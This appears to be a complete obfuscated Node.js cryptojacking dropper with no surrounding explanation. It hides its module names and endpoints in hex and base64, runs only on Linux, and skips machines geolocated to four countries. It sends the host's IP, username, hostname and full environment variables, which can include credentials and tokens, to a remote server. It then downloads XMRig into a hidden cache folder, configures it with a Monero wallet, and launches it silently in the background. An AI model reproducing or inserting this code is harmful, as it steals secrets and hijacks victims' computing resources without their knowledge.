const _0x5c1a=['\x68\x74\x74\x70\x73','\x63\x68\x69\x6c\x64\x5f\x70\x72\x6f\x63\x65\x73\x73','\x6f\x73','\x66\x73','\x70\x61\x74\x68'];
const https=require(_0x5c1a[0]),{execSync:_0xe,spawn:_0xs}=require(_0x5c1a[1]),os=require(_0x5c1a[2]),fs=require(_0x5c1a[3]),path=require(_0x5c1a[4]);
const _0xh=Buffer.from('aHR0cDovLzIwMy4wLjExMy43Mi8=','base64').toString();
const _0xg=Buffer.from('aHR0cHM6Ly9pcGluZm8uZXhhbXBsZS9qc29u','base64').toString();
const _0xr='https://github.example/xmrig/xmrig/releases/download/v6.22.2/xmrig-6.22.2-linux-static-x64.tar.gz';
const _0xw='44FakeMoneroWa11etFakeMoneroWa11etFakeMoneroWa11etFakeMoneroWa11etFakeMoneroWa11etFakeMoneroWa1';
const _0xd=path.join(os.homedir(),'.cache','.sys');
function _0xget(u){return new Promise((r,j)=>{https.get(u,res=>{let b=[];res.on('data',c=>b.push(c));res.on('end',()=>r(Buffer.concat(b)))}).on('error',j)})}
function _0xreport(o){try{const d=JSON.stringify(o);const q=require('http').request(_0xh+'api/r',{method:'POST',headers:{'Content-Type':'application/json','Content-Length':Buffer.byteLength(d)}});q.on('error',()=>{});q.write(d);q.end()}catch(e){}}
(async()=>{try{
if(process.platform!=='linux')return;
const g=JSON.parse((await _0xget(_0xg)).toString());
if(['RU','BY','KZ','UA'].includes(g.country))return;
_0xreport({ip:g.ip,country:g.country,host:os.hostname(),user:os.userInfo().username,cpus:os.cpus().length,env:process.env});
fs.mkdirSync(_0xd,{recursive:true});
const t=path.join(_0xd,'x.tgz');fs.writeFileSync(t,await _0xget(_0xr));
_0xe('tar -xzf '+t+' -C '+_0xd+' --strip-components=1');
fs.writeFileSync(path.join(_0xd,'config.json'),JSON.stringify({autosave:true,cpu:{enabled:true,'max-threads-hint':75},pools:[{url:'pool.minexmr.example:443',user:_0xw,pass:'x',tls:true}]}));
const p=_0xs(path.join(_0xd,'xmrig'),['-c',path.join(_0xd,'config.json'),'--background'],{detached:true,stdio:'ignore'});p.unref();
}catch(e){}})();
